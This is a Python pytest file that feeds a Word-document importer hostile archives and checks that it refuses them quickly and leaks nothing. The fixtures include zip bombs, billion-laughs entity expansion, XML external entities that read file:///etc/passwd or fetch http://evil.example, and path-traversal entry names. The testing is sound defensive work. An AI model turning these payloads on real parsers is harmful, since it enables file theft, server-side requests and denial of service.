"""A file that claims to be a document is taken apart with care: whatever it is, there is a sentence about it, soon."""

from __future__ import annotations

import io
import re
import struct
import time
from contextlib import suppress
from xml.sax.saxutils import escape
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZIP_STORED, ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.authoring.word.archive import MOST_BYTES, MOST_ELEMENTS, MOST_ENTRIES, is_archive, plain_archive
from kb.authoring.word.as_case import case_from_word
from kb.deadline import Deadline, OutOfTime, within
from kb.errors import ContentError
from tests.builders import vocabularies
from tests.properties import costly
from tests.word_files import archive, document_xml, note, paragraph, table, word_file

MAIN = "word/document.xml"
GOOD = word_file(paragraph("Context", "H1"), paragraph("They met."))


def entities(declared: str) -> str:
    return f"<?xml version='1.0'?><!DOCTYPE a [{declared}]>{document_xml('<w:p><w:r><w:t>&a;</w:t></w:r></w:p>')}"


def nested(levels: int) -> str:
    return document_xml("<w:tbl><w:tr><w:tc>" * levels + paragraph("x") + "</w:tc></w:tr></w:tbl>" * levels)


def encrypted() -> bytes:
    data = bytearray(GOOD)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            data[start + offset] |= 1
            start += 4
    return bytes(data)


def lying_about_its_size() -> bytes:
    data = bytearray(archive({MAIN: document_xml(paragraph("x" * 3_000_000))}))
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 10)
    return bytes(data)


def twice() -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w") as opened:
        opened.writestr(MAIN, document_xml(paragraph("one")))
        with pytest.warns(UserWarning, match="Duplicate"):
            opened.writestr(MAIN, document_xml(paragraph("two")))
    return made.getvalue()


HOSTILE: dict[str, bytes] = {
    "an old .doc, or encrypted": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "a PDF": b"%PDF-1.7\n",
    "rich text": b"{\\rtf1\\ansi",
    "empty": archive({}),
    "another archive": archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
    "cut": GOOD[: len(GOOD) // 2],
    "only its first letters": b"PK\x03\x04",
    "a password": encrypted(),
    "a bomb": archive({MAIN: b"<a>" + b" " * 60_000_000 + b"</a>"}),
    "a bomb of many parts": archive({f"word/document{n or ''}.xml": "<a>" + "b" * 900_000 + "</a>" for n in range(9)}),
    "a bomb that lies": lying_about_its_size(),
    "as large as may be": archive({MAIN: "x" * (MOST_BYTES + 1)}, ZIP_STORED),
    "thousands of entries": archive({MAIN: "<a/>", **{f"{n}": "" for n in range(MOST_ENTRIES)}}),
    "another compression": archive({MAIN: document_xml(paragraph("x"))}, ZIP_BZIP2),
    "yet another": archive({MAIN: document_xml(paragraph("x"))}, ZIP_LZMA),
    "laughs": archive({MAIN: entities("".join(f'<!ENTITY {b} "{f"&{a};" * 9}">' for a, b in ("ba", "cb")))}),
    "an entity": archive({MAIN: entities('<!ENTITY a "x">')}),
    "an entity elsewhere": archive({MAIN: entities('<!ENTITY a SYSTEM "file:///etc/passwd">')}),
    "an entity on the net": archive({MAIN: entities('<!ENTITY % a SYSTEM "http://evil.example/x"> %a;')}),
    "a document type elsewhere": archive({MAIN: f'<!DOCTYPE a SYSTEM "http://evil.example">{document_xml("")}'}),
    "an entity in UTF-16": archive({MAIN: entities('<!ENTITY a "x">').encode("utf-16")}),
    "an entity in its styles": archive({MAIN: document_xml(""), "word/styles.xml": entities('<!ENTITY a "x">')}),
    "deep": archive({MAIN: nested(5000)}, ZIP_STORED),
    "a little less deep": archive({MAIN: nested(25)}),
    "long": archive({MAIN: document_xml("<w:p/>" * MOST_ELEMENTS)}, ZIP_STORED),
    "many attributes": archive({MAIN: "<a " + " ".join(f"b{n}='1'" for n in range(90_000)) + "/>"}, ZIP_STORED),
    "no XML": archive({MAIN: "words"}),
    "other XML": archive({MAIN: "<a/>"}),
    "no namespace": archive({MAIN: "<w:document><w:body/></w:document>"}),
    "an unknown encoding": archive({MAIN: "<?xml version='1.0' encoding='klingon'?><a/>"}),
    "a name that leads elsewhere": archive({"../../word/document.xml": document_xml(paragraph("x")), "/etc/x": "x"}),
    "a note that is not there": archive({MAIN: document_xml(paragraph("x", inside=note(9)))}),
    "other names of parts": archive({"word\\document.xml": document_xml(paragraph("x")), "WORD/DOCUMENT.XML": "x"}),
}  # fmt: skip


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_is_no_document_gets_a_sentence_soon(data: bytes) -> None:
    assert is_archive(data)
    began = time.process_time()

    with pytest.raises(ContentError) as raised:
        case_from_word(data, vocabularies())

    assert time.process_time() - began < 1.5
    assert str(raised.value).endswith(".")
    assert len(str(raised.value)) < 250
    assert "evil.example" not in str(raised.value)


@pytest.mark.parametrize(
    "data",
    [
        twice(),
        archive({MAIN: document_xml(paragraph("x")).encode("utf-16")}),
        archive({MAIN: document_xml(table(["a"], ["b"])), "word/media/x.png": b"\0" * 5000}),
        archive({MAIN: document_xml(paragraph("x")), "word/vbaProject.bin": b"\xff" * 99, "../x": "x"}),
        archive({MAIN: document_xml("<!-- c --><?p i?>" * 100 + paragraph("x"))}),
        archive({MAIN: document_xml("")}),
    ],
)
def test_what_is_odd_but_a_document_is_read(data: bytes) -> None:
    assert "publication: draft" in case_from_word(data, vocabularies())


def test_what_only_says_how_words_look_does_not_count() -> None:
    look = '<w:rPr><w:rFonts w:ascii="Arial"/><w:b/><w:sz w:val="22"/><w:lang w:val="da"/></w:rPr>'
    noise = '<w:bookmarkStart w:id="1"/><w:proofErr/><w:drawing><w:p><w:r><w:t>Picture</w:t></w:r></w:p></w:drawing>'
    words = "".join(f"{noise}<w:r>{look}<w:t>word{number * 7919} &amp; </w:t></w:r>" for number in range(2000))

    text = case_from_word(word_file(paragraph("Context", "H1"), f"<w:p>{words}</w:p>"), vocabularies())

    assert len(re.findall(r"word\d+ &", text)) == 2000
    assert "**word0 & word7919 &" in text
    assert "Picture" not in text


def test_only_parts_with_text_are_passed_on() -> None:
    with ZipFile(io.BytesIO(plain_archive(GOOD))) as opened:
        assert {name.rpartition("/")[0] for name in opened.namelist()} == {"word", "word/_rels"}


def test_a_picture_is_neither_read_nor_fetched() -> None:
    drawing = (
        '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><pic:pic '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="r1"/>'
        "</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
    data = word_file(paragraph("Before", inside=drawing), links={"r1": "file:///etc/passwd"})

    text = case_from_word(data, vocabularies())

    assert "Before" in text
    assert "root:" not in text
    assert "passwd" not in text


def test_reading_ends_at_the_deadline() -> None:
    with within(Deadline(0)), pytest.raises(OutOfTime):
        case_from_word(GOOD, vocabularies())


@costly
@given(st.binary(max_size=400), st.integers(0, len(GOOD)), st.integers(0, 100))
def test_any_bytes_are_read_or_refused(data: bytes, position: int, gone: int) -> None:
    for candidate in (b"PK\x03\x04" + data, GOOD[:position] + data + GOOD[position + gone :]):
        with suppress(ContentError):
            assert "publication: draft" in case_from_word(candidate, vocabularies())


NAMES = (
    "p r t tbl tr tc hyperlink sdt sdtContent pPr numPr ins del fldChar instrText br footnoteReference tab sym pict "
    "drawing commentReference"
).split()


@costly
@given(st.recursive(st.text("ab<&", max_size=5), lambda inner: st.lists(inner, max_size=4), max_leaves=12), st.data())
def test_any_xml_is_read_or_refused(tree: object, data: st.DataObject) -> None:
    def written(node: object) -> str:
        if isinstance(node, list):
            name = data.draw(st.sampled_from(NAMES))
            return f"<w:{name}>{''.join(map(written, node))}</w:{name}>"
        return escape(str(node))

    with suppress(ContentError):
        assert "publication: draft" in case_from_word(archive({MAIN: document_xml(written(tree))}), vocabularies())
